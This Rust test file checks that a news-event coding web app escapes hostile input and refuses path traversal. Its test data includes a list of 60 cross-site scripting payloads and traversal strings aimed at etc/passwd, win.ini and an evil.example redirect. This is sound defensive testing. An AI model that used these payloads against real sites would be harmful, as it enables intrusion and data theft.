//! Hostile texts and addresses.

use axum::http::StatusCode;
use legation::store::{Filter, Shown, StoreError};

use crate::testing::{Site, coded, site};

/// Invented after the usual lists: each is markup, breaks out of an attribute, or is code in an address.
const PAYLOADS: [&str; 60] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x.example></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//x.example>",
    "<style>@import '//x.example'</style>",
    "<base href=//x.example/>",
    "<meta http-equiv=refresh content=0;url=//x.example>",
    "<form action=//x.example><input name=a>",
    "<button formaction=javascript:alert(1)>a",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>a</a>",
    "<a href=\"java&#115;cript:alert(1)\">a</a>",
    "<math><mtext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script/>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</mark><script>alert(1)</script>",
    "</q></bdi><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)<b>",
    "' onmouseover='alert(1)<b>",
    "\" autofocus onfocus=alert(1) x=\"<i>",
    "`onmouseover=alert(1)<u>",
    "&lt;script&gt;alert(1)<s>",
    "&#60;script&#62;<em>",
    "&amp;<b>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script\u{b}>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<x onclick=alert(1)>a",
    "<x/onclick=alert(1)>a",
    "<img src=\"x` `<script>alert(1)</script>\">",
    "\u{202e}<script>alert(1)</script>",
    "\u{feff}<script>alert(1)</script>",
    "+ADw-script+AD4-<b>",
    "{{constructor.constructor('alert(1)')()}}<b>",
    "${alert(1)}<b>",
    "<a ping=//x.example href=#>a</a>",
];

/// The text between the tags, as a browser shows it.
fn plain(html: &str) -> String {
    let (mut out, mut in_tag) = (String::new(), false);
    for c in html.chars() {
        match c {
            '<' => in_tag = true,
            '>' if in_tag => in_tag = false,
            _ if !in_tag => out.push(c),
            _ => {}
        }
    }
    out.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"").replace("&amp;", "&")
}

#[test]
fn nothing_of_a_text_is_markup() {
    let document = |(idx, payload): (usize, &&str)| {
        let text =
            format!("Peru recalled its {payload} ambassador from Ecuador.\n\nFrance sent food to Sudan. {payload}");
        let (mut document, mut coded) = coded(&format!("{idx} {payload}"), &text);
        document.title = Some(format!("Title {payload}"));
        document.publisher = Some(format!("Publisher {payload}"));
        document.url = Some(format!("javascript:{payload}"));
        for entity in
            coded.mentions.iter_mut().flat_map(|mention| mention.actors.iter_mut().chain(&mut mention.recipients))
        {
            entity.name = format!("Name {payload}");
        }
        (document, coded)
    };
    let site = Site::new(&PAYLOADS.iter().enumerate().map(document).collect::<Vec<_>>());
    let mut paths = vec!["/?limit=200".to_owned(), "/search?q=ambassador".to_owned()];
    paths.extend(site.events("?status=all").iter().map(|event| format!("/event/{}", event["id"].as_str().unwrap())));
    let mut reports = Vec::new();
    site.store
        .rows(legation::record::Kind::Mentions, &Filter::default(), |row| {
            reports.push(row["report"].as_str().unwrap().to_owned());
            Ok::<_, StoreError>(true)
        })
        .unwrap();
    assert!(reports.len() >= 40, "too few texts were coded: {}", reports.len());
    paths.extend(reports.iter().map(|report| format!("/document/{report}")));
    for payload in PAYLOADS {
        let query: String = form_urlencoded::byte_serialize(payload.as_bytes()).collect();
        paths.extend(["actor", "recipient", "place", "publisher", "text"].map(|name| format!("/?{name}={query}a")));
        paths.push(format!("/search?q={query}a"));
    }
    for path in &paths {
        let page = site.page(path);
        for payload in PAYLOADS {
            assert!(!page.contains(payload) || !payload.contains('<'), "{path}: {payload}");
        }
        assert_only_own_tags(&page, path);
    }
}

/// No tag or attribute is on a page but those that the views write.
fn assert_only_own_tags(page: &str, path: &str) {
    for tag in page.split('<').skip(1) {
        let name: String = tag.trim_start_matches('/').chars().take_while(char::is_ascii_alphanumeric).collect();
        let foreign =
            ["script", "img", "svg", "iframe", "object", "embed", "style", "base", "video", "audio", "math", "x"];
        assert!(!foreign.contains(&name.to_lowercase().as_str()), "{path}: {name}");
    }
    assert!(!page.contains("href=\"javascript:"), "{path}");
}

#[test]
fn the_text_of_a_document_is_the_stored_text() {
    let texts = PAYLOADS.map(|payload| format!("Peru recalled {payload} its ambassador from Ecuador.\n\n {payload}"));
    let documents: Vec<_> = texts.iter().enumerate().map(|(idx, text)| coded(&format!("t{idx}"), text)).collect();
    let site = Site::new(&documents);
    for (idx, _) in texts.iter().enumerate() {
        let name = format!("t{idx}");
        let Some(Shown::Document { document, .. }) = site.store.show(&name).unwrap() else { panic!("{name}") };
        let page = site.page(&format!("/document/{name}"));
        let text = page.split("<div class=\"text\"").nth(1).unwrap().split_once('>').unwrap().1;
        assert_eq!(plain(text.split("</div>").next().unwrap()), document["text"].as_str().unwrap());
    }
}

#[test]
fn no_path_leads_out_or_is_repeated() {
    let site = site();
    let marked = "wh3re1t1s";
    let steps = ["..", "%2e%2e", "..%2f", "%2e%2e%2f", "%252e%252e", "..%5c", "..;", "....//", "%c0%ae%c0%ae", "."];
    let targets = [
        "etc/passwd",
        "Cargo.toml",
        "style.css%00",
        "CON",
        "nul.txt",
        "C:%5cwindows%5cwin.ini",
        "%00",
        "~root",
        "x.db",
    ];
    let mut paths: Vec<String> = Vec::new();
    for step in steps {
        paths.extend(targets.iter().map(|target| format!("/{step}/{step}/{target}/{marked}")));
        paths.push(format!("/event/{step}{marked}"));
        paths.push(format!("/document/{step}%2fetc%2fpasswd{marked}"));
    }
    paths.extend(
        [
            "//evil.example",
            "/\\evil.example",
            "/event/",
            "/document/",
            "/event/e-0123456789abcdef/x",
            "/style.css/",
            "/%ff",
        ]
        .map(|path| path.replace('\\', "%5c")),
    );
    assert!(paths.len() > 100);
    for path in &paths {
        let response = site.get(path);
        assert_eq!(response.status(), StatusCode::NOT_FOUND, "{path}");
        assert!(!response.body().contains(marked) && !response.headers().contains_key("location"), "{path}");
        assert!(response.headers().contains_key("content-security-policy"), "{path}");
    }
}
